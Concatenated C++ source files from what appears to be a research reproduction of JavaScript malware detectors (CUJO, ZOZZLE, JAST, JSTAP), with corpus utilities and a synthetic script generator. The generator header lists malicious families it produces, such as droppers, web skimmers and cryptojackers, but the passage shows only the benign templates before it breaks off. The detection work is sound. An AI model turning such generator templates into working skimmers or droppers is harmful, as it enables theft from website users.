  /// Preorder node-kind sequence for one script (exposed for tests).
  /// The string form parses internally and throws on malformed input.
  static std::vector<std::string> unit_sequence(const std::string& source);
  static std::vector<std::string> unit_sequence(
      const analysis::ScriptAnalysis& analysis);

 private:
  std::vector<double> featurize(const analysis::ScriptAnalysis& analysis) const;

  JastConfig cfg_;
  // Explicit training-time n-gram vocabulary: n-grams never seen during
  // training are ignored at inference, as in the original tool.
  NgramVocab vocab_;
  ml::RandomForest forest_;
};

}  // namespace jsrev::detect
