#include "baselines/detector.h"

#include "baselines/cujo.h"
#include "baselines/jast.h"
#include "baselines/jstap.h"
#include "baselines/zozzle.h"
#include "obs/trace.h"
#include "util/thread_pool.h"

namespace jsrev::detect {

analysis::AnalyzedCorpus analyze_corpus(const dataset::Corpus& corpus,
                                        std::size_t threads,
                                        js::ParseLimits limits,
                                        bool deobfuscate) {
  obs::Span span("detect.analyze_corpus", "detect");
  analysis::AnalyzedCorpus out;
  out.scripts.reserve(corpus.samples.size());
  out.labels.reserve(corpus.samples.size());
  for (const auto& s : corpus.samples) {
    out.scripts.push_back(std::make_unique<analysis::ScriptAnalysis>(
        s.source, limits, deobfuscate));
    out.labels.push_back(s.label);
  }
  // Warm the parse in parallel; failures are values, so no item can throw.
  parallel_for_threads(threads, out.scripts.size(), [&](std::size_t i) {
    out.scripts[i]->parse_failed();
  });
  return out;
}

std::string baseline_kind_name(BaselineKind k) {
  switch (k) {
    case BaselineKind::kCujo: return "CUJO";
    case BaselineKind::kZozzle: return "ZOZZLE";
    case BaselineKind::kJast: return "JAST";
    case BaselineKind::kJstap: return "JSTAP";
  }
  return "?";
}

std::unique_ptr<Detector> make_baseline(BaselineKind kind,
                                        std::uint64_t seed) {
  switch (kind) {
    case BaselineKind::kCujo: {
      CujoConfig cfg;
      cfg.seed = seed;
      return std::make_unique<Cujo>(cfg);
    }
    case BaselineKind::kZozzle:
      return std::make_unique<Zozzle>();
    case BaselineKind::kJast: {
      JastConfig cfg;
      cfg.seed = seed;
      return std::make_unique<Jast>(cfg);
    }
    case BaselineKind::kJstap: {
      JstapConfig cfg;
      cfg.seed = seed;
      return std::make_unique<Jstap>(cfg);
    }
  }
  return nullptr;
}

}  // namespace jsrev::detect
