#include "baselines/detector.h"

#include "baselines/cujo.h"
#include "baselines/jast.h"
#include "baselines/jstap.h"
#include "baselines/zozzle.h"

namespace jsrev::detect {

std::string baseline_kind_name(BaselineKind k) {
  switch (k) {
    case BaselineKind::kCujo: return "CUJO";
    case BaselineKind::kZozzle: return "ZOZZLE";
    case BaselineKind::kJast: return "JAST";
    case BaselineKind::kJstap: return "JSTAP";
  }
  return "?";
}

std::unique_ptr<Detector> make_baseline(BaselineKind kind,
                                        std::uint64_t seed) {
  switch (kind) {
    case BaselineKind::kCujo: {
      CujoConfig cfg;
      cfg.seed = seed;
      return std::make_unique<Cujo>(cfg);
    }
    case BaselineKind::kZozzle:
      return std::make_unique<Zozzle>();
    case BaselineKind::kJast: {
      JastConfig cfg;
      cfg.seed = seed;
      return std::make_unique<Jast>(cfg);
    }
    case BaselineKind::kJstap: {
      JstapConfig cfg;
      cfg.seed = seed;
      return std::make_unique<Jstap>(cfg);
    }
  }
  return nullptr;
}

}  // namespace jsrev::detect
