#include "baselines/cujo.h"

#include <cmath>

#include "js/lexer.h"

namespace jsrev::detect {

Cujo::Cujo(CujoConfig cfg)
    : cfg_(cfg), hasher_(cfg.q, cfg.dims) {
  ml::LinearConfig lc;
  lc.seed = cfg.seed;
  svm_ = ml::LinearSvm(lc);
}

std::vector<std::string> Cujo::normalize_tokens(const std::string& source) {
  std::vector<std::string> out;
  js::Lexer lexer(source);
  for (const js::Token& t : lexer.tokenize()) {
    switch (t.type) {
      case js::TokenType::kEof:
        break;
      case js::TokenType::kIdentifier:
        out.emplace_back("ID");
        break;
      case js::TokenType::kNumericLiteral:
        out.emplace_back("NUM");
        break;
      case js::TokenType::kStringLiteral:
      case js::TokenType::kTemplateString:
        // CUJO buckets strings by length.
        out.emplace_back(t.string_value.size() < 16 ? "STR.short"
                                                    : "STR.long");
        break;
      case js::TokenType::kRegexLiteral:
        out.emplace_back("REGEX");
        break;
      default:
        out.push_back(t.value);  // keywords and punctuators stay literal
        break;
    }
  }
  return out;
}

std::vector<double> Cujo::featurize(const std::string& source) const {
  std::vector<double> f(cfg_.dims, 0.0);
  hasher_.accumulate(normalize_tokens(source), f);
  l2_normalize(f);
  return f;
}

void Cujo::train(const dataset::Corpus& corpus) {
  ml::Matrix x(corpus.samples.size(), cfg_.dims);
  std::vector<int> y(corpus.samples.size());
  for (std::size_t i = 0; i < corpus.samples.size(); ++i) {
    std::vector<double> f;
    try {
      f = featurize(corpus.samples[i].source);
    } catch (const std::exception&) {
      f.assign(cfg_.dims, 0.0);
    }
    std::copy(f.begin(), f.end(), x.row(i));
    y[i] = corpus.samples[i].label;
  }
  svm_.fit(x, y);
}

int Cujo::classify(const std::string& source) const {
  try {
    const std::vector<double> f = featurize(source);
    return svm_.predict(f.data());
  } catch (const std::exception&) {
    return 1;  // unlexable input → malicious by convention
  }
}

}  // namespace jsrev::detect
