#include "baselines/cujo.h"

#include <algorithm>
#include <cmath>

#include "js/lexer.h"

namespace jsrev::detect {

Cujo::Cujo(CujoConfig cfg)
    : cfg_(cfg), hasher_(cfg.q, cfg.dims) {
  ml::LinearConfig lc;
  lc.seed = cfg.seed;
  svm_ = ml::LinearSvm(lc);
}

std::vector<std::string> Cujo::normalize_tokens(const std::string& source) {
  js::Lexer lexer(source);
  return normalize_tokens(lexer.tokenize());
}

std::vector<std::string> Cujo::normalize_tokens(
    const std::vector<js::Token>& tokens) {
  std::vector<std::string> out;
  for (const js::Token& t : tokens) {
    switch (t.type) {
      case js::TokenType::kEof:
        break;
      case js::TokenType::kIdentifier:
        out.emplace_back("ID");
        break;
      case js::TokenType::kNumericLiteral:
        out.emplace_back("NUM");
        break;
      case js::TokenType::kStringLiteral:
      case js::TokenType::kTemplateString:
        // CUJO buckets strings by length.
        out.emplace_back(t.string_value.size() < 16 ? "STR.short"
                                                    : "STR.long");
        break;
      case js::TokenType::kRegexLiteral:
        out.emplace_back("REGEX");
        break;
      default:
        out.push_back(t.value);  // keywords and punctuators stay literal
        break;
    }
  }
  return out;
}

std::vector<double> Cujo::featurize(
    const std::vector<js::Token>& tokens) const {
  std::vector<double> f(cfg_.dims, 0.0);
  hasher_.accumulate(normalize_tokens(tokens), f);
  l2_normalize(f);
  return f;
}

void Cujo::train(const dataset::Corpus& corpus) {
  ml::Matrix x(corpus.samples.size(), cfg_.dims);
  std::vector<int> y(corpus.samples.size());
  for (std::size_t i = 0; i < corpus.samples.size(); ++i) {
    const analysis::ScriptAnalysis analysis(corpus.samples[i].source);
    if (const std::vector<js::Token>* tokens = analysis.tokens()) {
      const std::vector<double> f = featurize(*tokens);
      std::copy(f.begin(), f.end(), x.row(i));
    }
    y[i] = corpus.samples[i].label;
  }
  svm_.fit(x, y);
}

int Cujo::classify(const std::string& source) const {
  return classify(analysis::ScriptAnalysis(source));
}

int Cujo::classify(const analysis::ScriptAnalysis& analysis) const {
  const std::vector<js::Token>* tokens = analysis.tokens();
  if (tokens == nullptr) {
    // Unlexable input → malicious by the shared convention.
    return record_verdict(analysis::ScriptAnalysis::kUnparseableVerdict);
  }
  return record_verdict(svm_.predict(featurize(*tokens).data()));
}

}  // namespace jsrev::detect
