#include "baselines/ngram.h"

#include <algorithm>
#include <cmath>
#include <vector>

namespace jsrev::detect {

void l2_normalize(std::vector<double>& v) {
  double norm = 0.0;
  for (const double x : v) norm += x * x;
  if (norm <= 0.0) return;
  norm = std::sqrt(norm);
  for (double& x : v) x /= norm;
}

void NgramVocab::count(const std::vector<std::string>& tokens) {
  if (tokens.size() < static_cast<std::size_t>(n_)) return;
  for (std::size_t i = 0; i + static_cast<std::size_t>(n_) <= tokens.size();
       ++i) {
    ++counts_[gram_hash(tokens, i)];
  }
}

void NgramVocab::freeze(std::size_t min_count) {
  std::vector<std::pair<std::size_t, std::uint64_t>> ranked;
  ranked.reserve(counts_.size());
  for (const auto& [h, c] : counts_) {
    if (c >= min_count) ranked.emplace_back(c, h);
  }
  std::sort(ranked.begin(), ranked.end(),
            [](const auto& a, const auto& b) {
              // Frequency descending; hash as a deterministic tie-break.
              return a.first != b.first ? a.first > b.first
                                        : a.second < b.second;
            });
  if (ranked.size() > max_features_) ranked.resize(max_features_);
  index_.clear();
  for (std::size_t i = 0; i < ranked.size(); ++i) {
    index_.emplace(ranked[i].second, i);
  }
  counts_.clear();
  frozen_ = true;
}

void NgramVocab::accumulate(const std::vector<std::string>& tokens,
                            std::vector<double>& features) const {
  if (tokens.size() < static_cast<std::size_t>(n_)) return;
  for (std::size_t i = 0; i + static_cast<std::size_t>(n_) <= tokens.size();
       ++i) {
    const auto it = index_.find(gram_hash(tokens, i));
    if (it != index_.end()) features[it->second] += 1.0;
  }
}

}  // namespace jsrev::detect
