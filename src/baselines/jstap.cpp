#include "baselines/jstap.h"

#include <algorithm>
#include <stdexcept>

#include "analysis/pdg.h"
#include "js/visitor.h"

namespace jsrev::detect {

Jstap::Jstap(JstapConfig cfg) : cfg_(cfg), vocab_(cfg.n, cfg.dims) {
  ml::ForestConfig fc;
  fc.seed = cfg.seed;
  forest_ = ml::RandomForest(fc);
}

std::vector<std::vector<std::string>> Jstap::pdg_walks(
    const std::string& source) {
  const analysis::ScriptAnalysis analysis(source);
  if (analysis.parse_failed()) {
    throw std::runtime_error(analysis.parse_error());
  }
  return pdg_walks(analysis);
}

std::vector<std::vector<std::string>> Jstap::pdg_walks(
    const analysis::ScriptAnalysis& analysis) {
  const analysis::Pdg& pdg = analysis.pdg();

  // One GLOBAL traversal of the PDG in statement preorder: each statement
  // contributes its AST subtree kinds (at AST-node granularity, so
  // expression-level transformations perturb the features) interleaved with
  // control-/data-successor annotations. N-grams are taken across statement
  // boundaries, so inserted statements (dead code, temp hoists, dispatch
  // machinery) shift every crossing n-gram — the "drowning" effect the
  // paper observes on the real JSTAP.
  // The full statement subtree enters the walk (JSTAP's PDG is the complete
  // AST augmented with flow edges, so its n-grams see every node); a loose
  // cap only guards against pathological inputs.
  constexpr std::size_t kSubtreeCap = 4000;
  std::vector<std::string> walk;
  const auto& nodes = pdg.nodes();
  for (const auto& pn : nodes) {
    std::size_t emitted = 0;
    js::walk(pn.stmt, [&walk, &emitted](const js::Node* n) {
      if (emitted >= kSubtreeCap) return false;
      walk.emplace_back(js::node_kind_name(n->kind));
      ++emitted;
      return true;
    });
    // Edge annotations carry the successor's expression-level head (first
    // few preorder kinds), not just its statement kind — real JSTAP
    // n-grams cross into expression nodes, which is why expression-level
    // transformations perturb its features.
    auto head_of = [](const js::Node* stmt) {
      std::string head;
      int emitted2 = 0;
      js::walk(stmt, [&head, &emitted2](const js::Node* n) {
        if (emitted2 >= 3) return false;
        if (emitted2 > 0) head += '/';
        head += js::node_kind_name(n->kind);
        ++emitted2;
        return true;
      });
      return head;
    };
    for (const std::size_t c : pn.control_succs) {
      walk.push_back("C:" + head_of(nodes[c].stmt));
    }
    for (const std::size_t d : pn.data_succs) {
      walk.push_back("D:" + head_of(nodes[d].stmt));
    }
  }
  std::vector<std::vector<std::string>> walks;
  if (!walk.empty()) walks.push_back(std::move(walk));
  return walks;
}

std::vector<double> Jstap::featurize(
    const analysis::ScriptAnalysis& analysis) const {
  // Binary n-gram presence over the training vocabulary: obfuscation that
  // rewrites the PDG wholesale zeroes most of the vector.
  std::vector<double> f(vocab_.dims(), 0.0);
  for (const auto& walk : pdg_walks(analysis)) {
    vocab_.accumulate(walk, f);
  }
  for (double& v : f) v = v > 0 ? 1.0 : 0.0;
  return f;
}

void Jstap::train(const dataset::Corpus& corpus) {
  // Pass 1: build the n-gram vocabulary over all training PDG walks.
  std::vector<std::vector<std::vector<std::string>>> all_walks(
      corpus.samples.size());
  for (std::size_t i = 0; i < corpus.samples.size(); ++i) {
    const analysis::ScriptAnalysis analysis(corpus.samples[i].source);
    if (!analysis.parse_failed()) {
      all_walks[i] = pdg_walks(analysis);
    }
    // unparseable sample contributes no n-grams
    for (const auto& walk : all_walks[i]) vocab_.count(walk);
  }
  vocab_.freeze();

  // Pass 2: featurize (binary presence) and fit.
  ml::Matrix x(corpus.samples.size(), vocab_.dims());
  std::vector<int> y(corpus.samples.size());
  for (std::size_t i = 0; i < corpus.samples.size(); ++i) {
    std::vector<double> f(vocab_.dims(), 0.0);
    for (const auto& walk : all_walks[i]) vocab_.accumulate(walk, f);
    for (double& v : f) v = v > 0 ? 1.0 : 0.0;
    std::copy(f.begin(), f.end(), x.row(i));
    y[i] = corpus.samples[i].label;
  }
  forest_.fit(x, y);
}

int Jstap::classify(const std::string& source) const {
  return classify(analysis::ScriptAnalysis(source));
}

int Jstap::classify(const analysis::ScriptAnalysis& analysis) const {
  return record_verdict(analysis.classify_or_malicious(
      [&] { return forest_.predict(featurize(analysis).data()); }));
}

}  // namespace jsrev::detect
