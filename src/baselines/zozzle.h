// ZOZZLE baseline: hierarchical AST-context + text features with naive
// Bayes classification.
//
// Curtsinger et al.'s ZOZZLE records, for expression and variable-declaration
// nodes, the pair (context, text) — the context is the kind of the nearest
// enclosing "interesting" AST node (function / loop / conditional / try),
// and the text is the node's flattened source text. Features are binary
// (present/absent) and classified with naive Bayes.
#pragma once

#include "baselines/detector.h"
#include "baselines/ngram.h"
#include "ml/naive_bayes.h"

namespace jsrev::detect {

struct ZozzleConfig {
  std::size_t dims = 4096;
};

class Zozzle final : public Detector {
 public:
  explicit Zozzle(ZozzleConfig cfg = {});

  void train(const dataset::Corpus& corpus) override;
  int classify(const std::string& source) const override;
  int classify(const analysis::ScriptAnalysis& analysis) const override;
  std::string name() const override { return "ZOZZLE"; }

  /// (context:text) feature strings for one script (exposed for tests).
  /// The string form parses internally and throws on malformed input.
  static std::vector<std::string> context_features(const std::string& source);
  static std::vector<std::string> context_features(
      const analysis::ScriptAnalysis& analysis);

 private:
  std::vector<double> featurize(const analysis::ScriptAnalysis& analysis) const;

  ZozzleConfig cfg_;
  ml::BernoulliNaiveBayes nb_;
};

}  // namespace jsrev::detect
