// JSTAP baseline (pdg / n-grams variant): n-grams over PDG walks + random
// forest.
//
// Fass et al.'s JSTAP extends AST pipelines with control and data flow; the
// paper compares against its PDG code abstraction with n-gram features. We
// extract node-kind n-grams along PDG edges (control and data successor
// walks) and classify with a random forest.
#pragma once

#include "baselines/detector.h"
#include "baselines/ngram.h"
#include "ml/decision_tree.h"

namespace jsrev::detect {

struct JstapConfig {
  int n = 8;
  std::size_t dims = 4096;
  std::uint64_t seed = 19;
};

class Jstap final : public Detector {
 public:
  explicit Jstap(JstapConfig cfg = {});

  void train(const dataset::Corpus& corpus) override;
  int classify(const std::string& source) const override;
  int classify(const analysis::ScriptAnalysis& analysis) const override;
  std::string name() const override { return "JSTAP"; }

  /// PDG walk token sequences for one script (exposed for tests). The
  /// string form parses internally and throws on malformed input; the
  /// analysis form shares the memoized scope/data-flow/PDG artifacts.
  static std::vector<std::vector<std::string>> pdg_walks(
      const std::string& source);
  static std::vector<std::vector<std::string>> pdg_walks(
      const analysis::ScriptAnalysis& analysis);

 private:
  std::vector<double> featurize(const analysis::ScriptAnalysis& analysis) const;

  JstapConfig cfg_;
  // Explicit training-time n-gram vocabulary (unknown n-grams dropped at
  // inference), matching the original tool's featurization protocol.
  NgramVocab vocab_;
  ml::RandomForest forest_;
};

}  // namespace jsrev::detect
