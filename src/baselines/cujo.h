// CUJO baseline (static part): lexical token q-grams + linear SVM.
//
// Rieck et al.'s CUJO normalizes the lexical token stream (identifiers →
// ID, numeric literals → NUM, strings abstracted by length bucket) and
// learns an SVM over q-grams of the normalized tokens. We reproduce the
// static half, as the paper's comparison does.
#pragma once

#include <memory>

#include "baselines/detector.h"
#include "baselines/ngram.h"
#include "js/token.h"
#include "ml/linear_models.h"

namespace jsrev::detect {

struct CujoConfig {
  int q = 3;                 // q-gram length over normalized tokens
  std::size_t dims = 4096;   // hashed feature dimensions
  std::uint64_t seed = 11;
};

class Cujo final : public Detector {
 public:
  explicit Cujo(CujoConfig cfg = {});

  void train(const dataset::Corpus& corpus) override;
  int classify(const std::string& source) const override;
  /// CUJO is token-level: the shared-analysis path consumes the memoized
  /// token stream and never forces a parse, so a script that lexes but does
  /// not parse is still classified by the model (as the real tool would).
  int classify(const analysis::ScriptAnalysis& analysis) const override;
  std::string name() const override { return "CUJO"; }

  /// Normalized lexical token stream (exposed for tests).
  static std::vector<std::string> normalize_tokens(const std::string& source);
  static std::vector<std::string> normalize_tokens(
      const std::vector<js::Token>& tokens);

 private:
  std::vector<double> featurize(const std::vector<js::Token>& tokens) const;

  CujoConfig cfg_;
  NgramHasher hasher_;
  ml::LinearSvm svm_;
};

}  // namespace jsrev::detect
