// Labeled JavaScript corpus container and split utilities.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "util/rng.h"

namespace jsrev::dataset {

struct Sample {
  std::string source;
  int label = 0;        // 1 = malicious
  std::string family;   // generator family/genre tag
  std::string origin;   // modeled source (Table I row)
};

struct Corpus {
  std::vector<Sample> samples;

  std::size_t size() const { return samples.size(); }
  std::size_t count_label(int label) const {
    std::size_t n = 0;
    for (const auto& s : samples) n += s.label == label;
    return n;
  }
};

/// Train/test split: `train_benign` + `train_malicious` samples are drawn
/// (balanced, as the paper's 20k+20k protocol) into train; the remainder
/// becomes test. Shuffles with `rng` first.
struct Split {
  Corpus train;
  Corpus test;
};

Split split_corpus(const Corpus& corpus, std::size_t train_benign,
                   std::size_t train_malicious, Rng& rng);

/// Balances the test set to a 1:1 benign/malicious ratio by truncating the
/// larger class (the paper's test protocol).
Corpus balance(const Corpus& corpus, Rng& rng);

}  // namespace jsrev::dataset
