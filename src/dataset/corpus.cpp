#include "dataset/corpus.h"

#include <algorithm>

namespace jsrev::dataset {

Split split_corpus(const Corpus& corpus, std::size_t train_benign,
                   std::size_t train_malicious, Rng& rng) {
  std::vector<std::size_t> order(corpus.samples.size());
  for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
  rng.shuffle(order);

  Split split;
  std::size_t got_benign = 0, got_malicious = 0;
  for (const std::size_t i : order) {
    const Sample& s = corpus.samples[i];
    if (s.label == 0 && got_benign < train_benign) {
      split.train.samples.push_back(s);
      ++got_benign;
    } else if (s.label == 1 && got_malicious < train_malicious) {
      split.train.samples.push_back(s);
      ++got_malicious;
    } else {
      split.test.samples.push_back(s);
    }
  }
  return split;
}

Corpus balance(const Corpus& corpus, Rng& rng) {
  std::vector<const Sample*> benign, malicious;
  for (const auto& s : corpus.samples) {
    (s.label == 0 ? benign : malicious).push_back(&s);
  }
  const std::size_t n = std::min(benign.size(), malicious.size());
  rng.shuffle(benign);
  rng.shuffle(malicious);
  Corpus out;
  for (std::size_t i = 0; i < n; ++i) {
    out.samples.push_back(*benign[i]);
    out.samples.push_back(*malicious[i]);
  }
  return out;
}

}  // namespace jsrev::dataset
