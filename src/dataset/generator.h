// Synthetic JavaScript corpus generator.
//
// Substitutes for the paper's proprietary corpora (Hynek Petrak /
// GeeksOnSecurity / VirusTotal malware; 150k JS Dataset / Alexa-crawl benign
// scripts). Scripts are produced from randomized template grammars:
//
//   Benign genres (functionality-implementation heavy, matching the paper's
//   Table VII interpretation of benign code):
//     widget-config, dom-ui, utility-module, ajax-wrapper, form-validation,
//     animation, date-format, prototype-class
//
//   Malicious families (data-manipulation heavy):
//     dropper (decode+eval chains), heap-spray, redirector, web-skimmer,
//     cryptojacker, activex-dropper
//
// In-the-wild pre-obfuscation (Moog et al., paper Section II-B) is modeled:
// most benign scripts are minified, a few variable-renamed; malicious
// scripts are frequently pre-obfuscated with one of the four obfuscator
// models. This matters for faithfully reproducing baseline failure modes
// (e.g. CUJO's FPR explosion on obfuscated benign test data).
#pragma once

#include <cstdint>
#include <string>

#include "dataset/corpus.h"
#include "util/rng.h"

namespace jsrev::dataset {

struct GeneratorConfig {
  std::uint64_t seed = 1234;
  std::size_t benign_count = 600;
  std::size_t malicious_count = 600;

  // In-the-wild pre-processing rates.
  double benign_minified_rate = 0.60;
  double benign_renamed_rate = 0.06;
  double malicious_preobf_rate = 0.25;

  bool apply_wild_obfuscation = true;
};

/// Generates one benign script of a random genre.
std::string generate_benign(Rng& rng, std::string* genre_out = nullptr);

/// Generates one malicious script of a random family.
std::string generate_malicious(Rng& rng, std::string* family_out = nullptr);

/// Generates a full corpus per the config (deterministic in cfg.seed).
Corpus generate_corpus(const GeneratorConfig& cfg);

}  // namespace jsrev::dataset
