#include "dataset/generator.h"

#include <array>
#include <memory>
#include <string>
#include <vector>

#include "obfuscators/obfuscator.h"
#include "js/parser.h"
#include "js/printer.h"
#include "obfuscators/transforms.h"
#include "util/string_util.h"

namespace jsrev::dataset {
namespace {

// ---------------------------------------------------------------------------
// Identifier dictionaries. Benign names read like app/library code; the
// malicious generators use their own shadier mixtures below.
// ---------------------------------------------------------------------------

const std::vector<std::string> kNouns = {
    "item",   "value",  "result", "config",  "options", "element", "node",
    "list",   "index",  "count",  "total",   "data",    "entry",   "key",
    "name",   "state",  "event",  "handler", "target",  "buffer",  "cache",
    "widget", "panel",  "button", "input",   "field",   "form",    "row",
    "column", "chart",  "player", "track",   "frame",   "scene",   "layer",
    "queue",  "worker", "task",   "timer",   "offset",  "length",  "size"};

const std::vector<std::string> kVerbs = {
    "get",    "set",     "update", "render",  "init",    "load",   "save",
    "parse",  "format",  "build",  "create",  "remove",  "insert", "append",
    "toggle", "show",    "hide",   "enable",  "disable", "reset",  "apply",
    "merge",  "filter",  "map",    "reduce",  "find",    "sort",   "clamp",
    "attach", "detach",  "bind",   "emit",    "handle",  "resolve", "flush"};

const std::vector<std::string> kProps = {
    "controls", "options",  "autoplay", "volume",  "width",   "height",
    "duration", "position", "visible",  "enabled", "theme",   "locale",
    "retries",  "timeout",  "delay",    "speed",   "loop",    "muted",
    "preload",  "quality",  "source",   "title",   "label",   "tooltip"};

const std::vector<std::string> kDomMethods = {
    "getElementById",       "querySelector",    "createElement",
    "appendChild",          "removeChild",      "addEventListener",
    "setAttribute",         "getAttribute",     "insertBefore",
    "querySelectorAll",     "removeEventListener"};

struct Gen {
  Rng& rng;
  int uid = 0;

  std::string fresh(const std::string& base) {
    return base + std::to_string(uid++);
  }
  const std::string& noun() { return rng.pick(kNouns); }
  const std::string& verb() { return rng.pick(kVerbs); }
  const std::string& prop() { return rng.pick(kProps); }
  std::string camel(const std::string& v, const std::string& n) {
    std::string s = n;
    s[0] = static_cast<char>(s[0] - 'a' + 'A');
    return v + s;
  }
  int num(int lo, int hi) { return static_cast<int>(rng.between(lo, hi)); }
  std::string quoted(const std::string& s) { return "\"" + s + "\""; }
};

// ---------------------------------------------------------------------------
// Benign genres — code that *implements functionality*: configuration
// objects, function structure, call dispatch. This is the structural signal
// the paper's Table VII associates with benign scripts.
// ---------------------------------------------------------------------------

std::string gen_widget_config(Gen& g) {
  // Media/widget setup with an options object and defaults merging — the
  // `options.controls` pattern from the paper's first central path.
  const std::string widget = g.fresh("widget");
  const std::string opts = g.fresh("options");
  const std::string defaults = g.fresh("defaults");
  std::string s;
  s += "var " + defaults + " = {";
  const int nprops = g.num(4, 8);
  for (int i = 0; i < nprops; ++i) {
    if (i) s += ", ";
    s += g.prop() + std::to_string(i) + ": " +
         (g.rng.chance(0.4) ? std::to_string(g.num(0, 100))
                            : (g.rng.chance(0.5) ? "true" : "false"));
  }
  s += "};\n";
  s += "var themes" + std::to_string(g.num(0, 9)) +
       " = [\"light\", \"dark\", \"contrast\", \"" + g.noun() + "\", \"" +
       g.noun() + "\"];\n";
  s += "function " + g.camel("init", widget) + "(" + opts + ") {\n";
  s += "  var controls = " + opts + ".controls;\n";
  s += "  var merged = {};\n";
  s += "  for (var key in " + defaults + ") {\n";
  s += "    merged[key] = " + defaults + "[key];\n";
  s += "  }\n";
  s += "  for (var key2 in " + opts + ") {\n";
  s += "    merged[key2] = " + opts + "[key2];\n";
  s += "  }\n";
  s += "  if (controls) {\n";
  s += "    var bar = document.createElement(\"div\");\n";
  s += "    bar.setAttribute(\"class\", \"" + widget + "-controls\");\n";
  s += "    merged.container.appendChild(bar);\n";
  s += "  }\n";
  s += "  return merged;\n";
  s += "}\n";
  const int nsetters = g.num(2, 4);
  for (int i = 0; i < nsetters; ++i) {
    const std::string p = g.prop();
    s += "function " + g.camel("set", p) + std::to_string(i) + "(" + widget +
         ", value) {\n";
    s += "  if (value === undefined) { return " + widget + "." + p + "; }\n";
    s += "  " + widget + "." + p + " = value;\n";
    s += "  " + widget + ".dirty = true;\n";
    s += "  return " + widget + ";\n";
    s += "}\n";
  }
  return s;
}

std::string gen_dom_ui(Gen& g) {
  const std::string panel = g.fresh("panel");
  const std::string btn = g.fresh("button");
  std::string s;
  s += "var " + panel + " = document." + g.rng.pick(kDomMethods) + "(\"" +
       g.noun() + "-root\");\n";
  const int nhandlers = g.num(2, 5);
  for (int i = 0; i < nhandlers; ++i) {
    const std::string evt = g.rng.chance(0.5) ? "click" : "change";
    const std::string handler = g.fresh("on") + g.noun();
    s += "function " + handler + "(event) {\n";
    s += "  var target = event.target;\n";
    s += "  if (!target) { return; }\n";
    if (g.rng.chance(0.5)) {
      s += "  target.className = target.className === \"active\" ? \"\" : "
           "\"active\";\n";
    } else {
      s += "  var label = target.getAttribute(\"data-label\");\n";
      s += "  if (label) { target.textContent = label; }\n";
    }
    s += "}\n";
    s += panel + ".addEventListener(\"" + evt + "\", " + handler + ");\n";
  }
  s += "var " + btn + " = document.createElement(\"button\");\n";
  s += btn + ".textContent = \"" + g.verb() + "\";\n";
  s += panel + ".appendChild(" + btn + ");\n";
  return s;
}

std::string gen_utility_module(Gen& g) {
  // Module pattern exporting small pure helpers.
  const std::string mod = g.fresh("utils");
  std::string s;
  s += "var " + mod + " = (function() {\n";
  const int nfns = g.num(3, 6);
  std::vector<std::string> names;
  for (int i = 0; i < nfns; ++i) {
    const std::string fn = g.camel(g.verb(), g.noun()) + std::to_string(i);
    names.push_back(fn);
    switch (g.rng.below(4)) {
      case 0:
        s += "  function " + fn + "(list, fn) {\n";
        s += "    var out = [];\n";
        s += "    for (var i = 0; i < list.length; i++) {\n";
        s += "      if (fn(list[i], i)) { out.push(list[i]); }\n";
        s += "    }\n";
        s += "    return out;\n";
        s += "  }\n";
        break;
      case 1:
        s += "  function " + fn + "(value, lo, hi) {\n";
        s += "    if (value < lo) { return lo; }\n";
        s += "    if (value > hi) { return hi; }\n";
        s += "    return value;\n";
        s += "  }\n";
        break;
      case 2:
        s += "  function " + fn + "(text, width) {\n";
        s += "    var pad = \"\";\n";
        s += "    while (pad.length + text.length < width) { pad += \" \"; }\n";
        s += "    return pad + text;\n";
        s += "  }\n";
        break;
      default:
        s += "  function " + fn + "(a, b) {\n";
        s += "    var merged = {};\n";
        s += "    for (var k in a) { merged[k] = a[k]; }\n";
        s += "    for (var k2 in b) { merged[k2] = b[k2]; }\n";
        s += "    return merged;\n";
        s += "  }\n";
        break;
    }
  }
  s += "  return {";
  for (std::size_t i = 0; i < names.size(); ++i) {
    if (i) s += ", ";
    s += names[i] + ": " + names[i];
  }
  s += "};\n";
  s += "})();\n";
  return s;
}

std::string gen_ajax_wrapper(Gen& g) {
  const std::string fn = g.fresh("request");
  std::string s;
  s += "function " + fn + "(url, options, callback) {\n";
  s += "  var retries = options.retries || " + std::to_string(g.num(1, 5)) +
       ";\n";
  s += "  var attempts = 0;\n";
  s += "  function attempt() {\n";
  s += "    attempts++;\n";
  s += "    var xhr = new XMLHttpRequest();\n";
  s += "    xhr.open(options.method || \"GET\", url, true);\n";
  s += "    xhr.onreadystatechange = function() {\n";
  s += "      if (xhr.readyState !== 4) { return; }\n";
  s += "      if (xhr.status >= 200 && xhr.status < 300) {\n";
  s += "        callback(null, xhr.responseText);\n";
  s += "      } else if (attempts < retries) {\n";
  s += "        setTimeout(attempt, " + std::to_string(g.num(100, 2000)) +
       ");\n";
  s += "      } else {\n";
  s += "        callback(new Error(\"request failed\"), null);\n";
  s += "      }\n";
  s += "    };\n";
  s += "    xhr.send(options.body || null);\n";
  s += "  }\n";
  s += "  attempt();\n";
  s += "}\n";
  const int ncalls = g.num(1, 3);
  for (int i = 0; i < ncalls; ++i) {
    s += fn + "(\"/api/" + g.noun() + "\", {method: \"GET\", retries: " +
         std::to_string(g.num(1, 4)) + "}, function(err, body) {\n";
    s += "  if (err) { console.error(err); return; }\n";
    s += "  var parsed = JSON.parse(body);\n";
    s += "  render" + std::to_string(i) + "(parsed." + g.noun() + ");\n";
    s += "});\n";
  }
  return s;
}

std::string gen_form_validation(Gen& g) {
  const std::string form = g.fresh("form");
  std::string s;
  s += "var " + form + " = document.getElementById(\"" + g.noun() +
       "-form\");\n";
  s += "var validators = {\n";
  s += "  required: function(value) { return value.length > 0; },\n";
  s += "  email: function(value) { return /^[^@]+@[^@]+$/.test(value); },\n";
  s += "  number: function(value) { return !isNaN(parseFloat(value)); }\n";
  s += "};\n";
  s += "function validate(fields) {\n";
  s += "  var errors = [];\n";
  s += "  for (var i = 0; i < fields.length; i++) {\n";
  s += "    var field = fields[i];\n";
  s += "    var rules = field.getAttribute(\"data-rules\").split(\",\");\n";
  s += "    for (var j = 0; j < rules.length; j++) {\n";
  s += "      var rule = validators[rules[j]];\n";
  s += "      if (rule && !rule(field.value)) {\n";
  s += "        errors.push({field: field.name, rule: rules[j]});\n";
  s += "      }\n";
  s += "    }\n";
  s += "  }\n";
  s += "  return errors;\n";
  s += "}\n";
  s += form + ".addEventListener(\"submit\", function(event) {\n";
  s += "  var errors = validate(" + form +
       ".querySelectorAll(\"[data-rules]\"));\n";
